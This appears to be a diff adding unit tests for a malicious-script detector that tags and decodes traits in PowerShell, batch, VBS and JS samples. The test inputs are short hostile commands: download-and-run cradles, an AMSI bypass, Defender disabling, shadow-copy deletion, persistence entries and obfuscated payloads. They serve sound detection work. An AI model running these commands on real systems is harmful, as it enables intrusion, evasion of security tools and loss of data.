@@ -1,0 +1,224 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import fc from 'fast-check';
+import { inspect, type RecordedFindings } from '../../../../test/findings.ts';
+import { fuzzSettings, hostileVariants } from '../../../../test/fuzz.ts';
+import { script } from './script.ts';
+
+const INNER = 'Write-Host "a line that is long enough to be taken for text"';
+const encoded = Buffer.from(INNER, 'utf16le').toString('base64');
+
+function look(text: string, name = 'sample'): Promise<RecordedFindings> {
+  return inspect(script, Buffer.from(text, 'utf8'), { name });
+}
+
+async function tagsOf(text: string, name?: string): Promise<string[]> {
+  return [...(await look(text, name)).tags.keys()];
+}
+
+function textsIn({ nested }: RecordedFindings): string[] {
+  return nested.map(({ bytes }) => bytes.toString('utf8'));
+}
+
+describe('the kind of a script', () => {
+  const cases: readonly (readonly [tag: string, text: string, name?: string])[] = [
+    ['SCRIPT_POWERSHELL', '$a = New-Object Net.WebClient\nWrite-Host $env:TEMP'],
+    ['SCRIPT_POWERSHELL', 'hello', 'a.ps1'],
+    ['SCRIPT_POWERSHELL', '"C:\\Windows\\powershell.exe" -NoProfile'],
+    ['SCRIPT_VBS', 'Dim a\r\nSet a = CreateObject("X")\r\nMsgBox "a line"'],
+    ['SCRIPT_VBA', 'Attribute VB_Name = "Module1"\r\nSub A()\r\nEnd Sub'],
+    ['SCRIPT_JS', 'var a = 1;\nfunction b() { eval("1"); }'],
+    ['SCRIPT_BATCH', '@echo off\r\nset "a=b"\r\ngoto end'],
+    ['SCRIPT_SHELL', '#!/bin/sh\necho a line'],
+    ['SCRIPT_PYTHON', '#!/usr/bin/env python3\nprint(1)'],
+    ['SCRIPT_PYTHON', 'import os\ndef a():\n  print(1)\n'],
+    ['SCRIPT_HTA', '<html><head><HTA:APPLICATION ID="a"></head></html>'],
+    ['HTML', '<!DOCTYPE html><html></html>'],
+  ];
+  for (const [tag, text, name] of cases) {
+    it(`is ${tag} for ${JSON.stringify(text.slice(0, 30))}`, async () => {
+      assert.deepEqual(
+        (await tagsOf(text, name)).filter((each) => each === tag),
+        [tag],
+      );
+    });
+  }
+
+  it('is nothing for prose, data and programs', async () => {
+    const others = [
+      'Dear reader, please set the table and import the goods from there. Thank you for the function.',
+      '{"a": [1, 2, 3]}',
+      'MZ\x90\0\x03\0\0\0 powershell iex invoke-expression',
+      '%PDF-1.4 powershell iex invoke-expression',
+      '',
+    ];
+    for (const text of others) assert.deepEqual(await tagsOf(text), []);
+  });
+
+  it('is seen in UTF-16 too, with offsets in bytes', async () => {
+    const text = 'param($a)\r\nIEX (New-Object Net.WebClient).DownloadString($a)';
+    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+    const { tags } = await inspect(script, bytes);
+    const offset = tags.get('DOWNLOAD_CRADLE')?.offset ?? 0;
+    assert.equal(bytes.toString('utf16le', offset, offset + 28), 'DownloadString');
+  });
+});
+
+describe('what a script does', () => {
+  const cases: readonly (readonly [tag: string, text: string, name: string])[] = [
+    ['DOWNLOAD_CRADLE', "IEX(iwr 'http://192.0.2.1/a')", 'a.ps1'],
+    ['DOWNLOAD_CRADLE', 'curl -s http://192.0.2.1/a | sh', 'a.sh'],
+    ['DOWNLOAD_CRADLE', 'CreateObject("MSXML2.XMLHTTP"):CreateObject("WScript.Shell")', 'a.vbs'],
+    ['AMSI_BYPASS', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", 'a.ps1'],
+    ['AMSI_BYPASS', "GetType('System.Management.Automation.Am'+'siUt'+'ils')", 'a.ps1'],
+    ['HIDDEN_WINDOW', 'powershell  -WindowStyle   Hidden -File a', 'a.bat'],
+    ['HIDDEN_WINDOW', 'CreateObject("WScript.Shell").Run "a", 0, False', 'a.vbs'],
+    ['REFLECTIVE_LOAD', '[System.Reflection.Assembly]::Load($a)', 'a.ps1'],
+    [
+      'PERSISTENCE_RUN_KEY',
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      'a.bat',
+    ],
+    ['PERSISTENCE_SCHTASKS', 's^cht^asks /cre^ate /tn a', 'a.bat'],
+    ['DEFENDER_TAMPERING', 'S`et-MpPref`erence -DisableRealtimeMonitoring 1', 'a.ps1'],
+    ['SHADOW_COPY_DELETION', 'vssadmin delete shadows /all', 'a.bat'],
+    ['SHELLCODE_LOADER', '$a = VirtualAlloc; CreateThread', 'a.ps1'],
+    ['EVAL_DECODED', 'exec(base64.b64decode("aa"))', 'a.py'],
+    ['HTML_SMUGGLING', 'b=atob(x);a.href=URL.createObjectURL(b);a.download="x"', 'a.js'],
+    ['ENCODED_SCRIPT', '#@~^AAAAAA==abc', 'a.vbe'],
+  ];
+  for (const [tag, text, name] of cases) {
+    it(`is ${tag} for ${text.slice(0, 40)}`, async () => {
+      assert.ok((await tagsOf(text, name)).includes(tag));
+    });
+  }
+
+  it('is nothing hot for ordinary scripts', async () => {
+    const honest: readonly (readonly [string, string])[] = [
+      [
+        'if (window.XMLHttpRequest) {} else new ActiveXObject("Microsoft.XMLHTTP"); /a/.exec(b)',
+        'a.js',
+      ],
+      ['Get-ChildItem | ForEach-Object { $_.Name }', 'a.ps1'],
+      ['for i in a b; do echo "$i"; done', 'a.sh'],
+      ['ping -w 1 192.0.2.1', 'a.bat'],
+    ];
+    for (const [text, name] of honest) assert.equal((await tagsOf(text, name)).length, 1, text);
+  });
+
+  it('is told with the place where it stands', async () => {
+    const text = '# \u00e9\nSet-MpPreference -DisableRealtimeMonitoring 1';
+    const offset = (await look(text, 'a.ps1')).tags.get('DEFENDER_TAMPERING')?.offset ?? 0;
+    assert.equal(Buffer.from(text).toString('utf8', offset, offset + 16), 'Set-MpPreference');
+  });
+
+  it('may be hidden: many escapes and joints are a trait of their own', async () => {
+    const hidden =
+      "$a = 'W'+'r'+'i'+'t'+'e'+'-'+'H'+'o'+'s'+'t'+' '+'a'+' '+'l'+'i'+'n'+'e'+' '+'o'+'f'+' '+'t'+'e'+'x'+'t'";
+    assert.ok((await tagsOf(hidden, 'a.ps1')).includes('OBFUSCATED_SCRIPT'));
+    const plain = `$a = 'one'+'two'\n${'Write-Host "a line"\n'.repeat(50)}`;
+    assert.ok(!(await tagsOf(plain, 'a.ps1')).includes('OBFUSCATED_SCRIPT'));
+  });
+});
+
+describe('what a script carries', () => {
+  it('is the command behind -EncodedCommand, in all its spellings', async () => {
+    for (const parameter of ['-e', '-enc', '-EncodedCommand', '/ec', '-en^c']) {
+      const found = await look(`powershell.exe -nop ${parameter} ${encoded}`, 'a.bat');
+      assert.ok(found.tags.has('ENCODED_COMMAND'), parameter);
+      assert.deepEqual(found.nested, [{ name: 'encoded command.ps1', bytes: Buffer.from(INNER) }]);
+    }
+  });
+
+  it('is not the value of another parameter', async () => {
+    const found = await look(`powershell.exe -ExecutionPolicy ${encoded.slice(0, 100)}`, 'a.bat');
+    assert.ok(!found.tags.has('ENCODED_COMMAND'));
+  });
+
+  it('is a literal in base64, packed or not, forwards or backwards', async () => {
+    const bytes = Buffer.from(INNER.repeat(4));
+    const forms = [bytes, gzipSync(bytes), deflateSync(bytes), deflateRawSync(bytes)].map((form) =>
+      form.toString('base64'),
+    );
+    forms.push([...bytes.toString('base64')].reverse().join(''));
+    for (const form of forms) {
+      const text = `$s = [IO.Compression.DeflateStream]; [Convert]::FromBase64String('${form}')`;
+      assert.deepEqual(textsIn(await look(text, 'a.ps1')), [bytes.toString()]);
+    }
+  });
+
+  it('is put together before it is decoded', async () => {
+    const form = Buffer.from(INNER).toString('base64');
+    const text = `[Convert]::FromBase64String('${form.slice(0, 20)}'+'${form.slice(20)}')`;
+    assert.deepEqual(textsIn(await look(text, 'a.ps1')), [INNER]);
+  });
+
+  it('is a program in hex digits or in a list of numbers', async () => {
+    const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(100, 7)]);
+    const forms = [
+      `$a = '${program.toString('hex')}'`,
+      `[Byte[]] $a = ${[...program].map((byte) => `0x${byte.toString(16)}`).join(',')}`,
+      `$a = ${[...program].join(', ')}`,
+    ];
+    for (const form of forms) {
+      assert.deepEqual((await look(form, 'a.ps1')).nested[0]?.bytes, program);
+    }
+  });
+
+  it('is text in character codes', async () => {
+    const codes = [...INNER].map((sign) => sign.charCodeAt(0));
+    const forms: readonly (readonly [string, string])[] = [
+      [codes.map((code) => `Chr(${code})`).join(' & '), 'a.vbs'],
+      [codes.map((code) => `[char]${code}`).join('+'), 'a.ps1'],
+      [`String.fromCharCode(${codes.join(',')})`, 'a.js'],
+    ];
+    for (const [form, name] of forms) assert.deepEqual(textsIn(await look(form, name)), [INNER]);
+  });
+
+  it('is not every long word or list', async () => {
+    const table = Array.from({ length: 64 }, (_, place) => (place * 37 + 128) % 256).join(',');
+    assert.deepEqual((await look(`var a = [${table}];`, 'a.js')).nested, []);
+    assert.deepEqual((await look(`var a = "${'x'.repeat(100)}";`, 'a.js')).nested, []);
+  });
+
+  it('is cut where it unpacks to too much', async () => {
+    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024)).toString('base64');
+    const found = await look(`[Convert]::FromBase64String('${bomb}')`, 'a.ps1');
+    assert.deepEqual(found.limits, ['an encoded part unpacks to more than 16777216 bytes']);
+  });
+});
+
+describe('a hostile script', () => {
+  const lines: readonly (readonly [string, string])[] = [
+    ['one long word', 'a'],
+    ['quotes', '"'],
+    ['joints', "'+'"],
+    ['numbers', '1,'],
+    ['escapes', '`^\\x41'],
+    ['short words of the alphabet', `${'A'.repeat(39)} `],
+    ['characters', 'chr(1)'],
+    ['spaces', ' '],
+    ['parameters', '-e '],
+  ];
+  for (const [what, piece] of lines) {
+    it(`of one endless line of ${what} is read in bounded time`, async () => {
+      const bytes = Buffer.alloc((what === 'spaces' ? 50 : 3) * 1024 * 1024, piece);
+      const { limits } = await inspect(script, bytes, { name: 'a.ps1' });
+      assert.ok(limits.includes('the text is longer than what is looked at'));
+    });
+  }
+
+  it('returns for whatever it is given', async () => {
+    const good = Buffer.from(
+      `IEX([Convert]::FromBase64String('${encoded}')) # chr(65)&chr(66) 1,2,3`,
+    );
+    await fc.assert(
+      fc.asyncProperty(
+        hostileVariants(good),
+        async (bytes) => void (await inspect(script, bytes, { name: 'a.ps1' })),
+      ),
+      fuzzSettings(),
+    );
+  });
+});
